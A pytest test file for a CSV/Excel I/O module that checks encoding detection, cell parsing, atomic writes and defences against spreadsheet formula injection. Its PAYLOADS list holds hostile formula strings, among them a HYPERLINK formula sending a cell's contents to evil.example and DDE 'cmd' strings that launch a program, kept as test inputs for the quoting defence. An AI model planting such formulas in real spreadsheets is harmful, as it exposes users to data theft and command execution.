"""Tests of constraints.io: encoding detection, CSV and Excel tables as strings, atomic writes."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from constraints.errors import InputError
from constraints.io import atomic_write, decode_bytes, neutralise, read_table, restore, write_csv

TEXT = "工号,姓名\nS01,王建国\nS02,李秀英\n"


@pytest.mark.parametrize(("encoding", "detected"), [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"),
                                                    ("gbk", "gb18030"), ("gb18030", "gb18030")])  # fmt: skip
def test_encodings_are_detected_in_order(tmp_path: Path, encoding: str, detected: str) -> None:
    """BOM → strict UTF-8 → GB18030; the table reads the same whichever was used."""
    raw = TEXT.encode(encoding)
    assert decode_bytes(raw, "x.csv") == (TEXT, detected)
    path = tmp_path / "t.csv"
    path.write_bytes(raw)
    df = read_table(path)
    assert list(df.columns) == ["工号", "姓名"]
    assert df["姓名"].tolist() == ["王建国", "李秀英"]


def test_undecodable_bytes_name_row_and_column(tmp_path: Path) -> None:
    """Bytes neither UTF-8 nor GB18030 can read are an error naming the line, the column and the bytes."""
    path = tmp_path / "t.csv"
    path.write_bytes("工号,姓名\nS01,王建国\n".encode("gbk") + b"S02,\xff\xfe\x00\n")
    with pytest.raises(InputError) as ei:
        read_table(path)
    e = ei.value
    assert (e.file, e.row, e.column, e.value) == (str(path), 3, "姓名", "ff fe 00 0a")


def test_cells_are_stripped_strings_and_empty_is_empty(tmp_path: Path) -> None:
    """Every CSV cell is a stripped string; empty and 'NA'-looking cells stay as written."""
    path = tmp_path / "t.csv"
    path.write_text(" a , b ,c\n 1 ,,NA\n2,null, x \n", encoding="utf-8")
    df = read_table(path)
    assert list(df.columns) == ["a", "b", "c"]
    assert df.to_dict("list") == {"a": ["1", "2"], "b": ["", "null"], "c": ["NA", "x"]}


def test_ragged_rows(tmp_path: Path) -> None:
    """A trailing comma does not shift columns; a short row is padded; a long row is an error on its line."""
    path = tmp_path / "t.csv"
    path.write_text("a,b,c\n1,2,3,\n4,5\n", encoding="utf-8")
    assert read_table(path).to_dict("list") == {"a": ["1", "4"], "b": ["2", "5"], "c": ["3", ""]}
    path.write_text("a,b\n1,2\n3,4\n5,6,7,8\n", encoding="utf-8")
    with pytest.raises(InputError) as ei:
        read_table(path)
    assert ei.value.row == 4


def test_quoted_cells_keep_commas_and_newlines(tmp_path: Path) -> None:
    """Quoted cells may hold commas, quotes and line breaks."""
    path = tmp_path / "t.csv"
    path.write_text('a,b\n"x, y","say ""hi""\nagain"\n', encoding="utf-8")
    assert read_table(path).to_dict("list") == {"a": ["x, y"], "b": ['say "hi"\nagain']}


@pytest.mark.parametrize(("name", "content", "words"), [("none.csv", None, "not found"), ("e.csv", b"", "empty"),
                                                        ("s.csv", b" \n\n", "empty"),
                                                        ("bad.xlsx", b"not a zip", "Excel")])  # fmt: skip
def test_missing_empty_or_damaged_files(tmp_path: Path, name: str, content: bytes | None, words: str) -> None:
    """A missing, empty or damaged file is one InputError naming it."""
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(InputError, match=words) as ei:
        read_table(path)
    assert ei.value.file == str(path)


def test_xlsx_keeps_native_values(tmp_path: Path) -> None:
    """An .xlsx reads with its datetimes and numbers as Excel stored them, without warnings."""
    import datetime as dt
    import warnings

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["when", "n", "s"])
    ws.append([dt.datetime(2026, 11, 2, 9, 5), 7, "x"])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        df = read_table(path)
    assert df["when"].iloc[0] == pd.Timestamp("2026-11-02 09:05") and df["n"].iloc[0] == 7


def test_atomic_write_leaves_the_old_file_when_the_block_raises(tmp_path: Path) -> None:
    """A failure inside the block keeps the previous content and leaves no temporary file."""
    path = tmp_path / "out.csv"
    path.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_write(path) as fh:
        fh.write("half")
        raise RuntimeError("boom")
    assert path.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    with atomic_write(path) as fh:
        fh.write("new")
    assert path.read_text(encoding="utf-8") == "new"


def test_atomic_write_binary_and_new_folder(tmp_path: Path) -> None:
    """Binary mode works and missing parent folders are created."""
    path = tmp_path / "a" / "b" / "x.bin"
    with atomic_write(path, "wb") as fh:
        fh.write(b"\x00\x01")
    assert path.read_bytes() == b"\x00\x01"


def test_write_csv_writes_utf8_with_bom_and_reads_back(tmp_path: Path) -> None:
    """write_csv: UTF-8 with BOM (Excel shows Chinese), LF line ends, and read_table reads it back."""
    path = tmp_path / "roster.csv"
    write_csv(pd.DataFrame({"姓名": ["王建国"], "start": ["09:00"]}), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" not in raw
    assert read_table(path).to_dict("list") == {"姓名": ["王建国"], "start": ["09:00"]}


def test_row_longer_than_the_header_with_a_value_is_an_error(tmp_path: Path) -> None:
    """A row with a non-empty cell beyond the header is named (it would be silently lost otherwise)."""
    path = tmp_path / "t.csv"
    path.write_text("a,b\n1,2,\n3,4,lost\n5,6,\n", encoding="utf-8")
    with pytest.raises(InputError, match="more cells") as ei:
        read_table(path)
    assert ei.value.row == 3


# ---- formula injection -------------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"赵敏")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full width, as a Chinese input method types it
    "'=1+1",  # already quoted once: quoted again, so reading back gives it exactly
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_a_spreadsheet_could_run_is_quoted_and_reads_back(tmp_path: Path, payload: str) -> None:
    """A text cell starting like a formula is written with a leading ' (OWASP); read_table gives the text back."""
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"staff_id": ["S01"], "name": [payload]}), path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        cell = list(csv.reader(fh))[1][1]
    assert cell == "'" + payload
    assert read_table(path).loc[0, "name"] == payload  # every character kept (the quote protects the tab)


@pytest.mark.parametrize("value", ["赵敏", "-", "—", "-5", "+86", "-3.5", "1e-3", "'0012", "a=b", " x"])
def test_csv_plain_text_and_numbers_are_written_as_they_are(tmp_path: Path, value: str) -> None:
    """Names, dash placeholders and numbers (even signed) are not formulas: written unchanged."""
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"v": [value], "n": [-2.5]}), path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        row = list(csv.reader(fh))[1]
    assert row == [value, "-2.5"]


@pytest.mark.parametrize("text", [*PAYLOADS, "赵敏", "'0012", "-5", "''=x", "'"])
def test_neutralise_is_undone_by_restore(text: str) -> None:
    """restore(neutralise(t)) == t for any text, so quoting never changes a name read back."""
    assert restore(neutralise(text)) == text
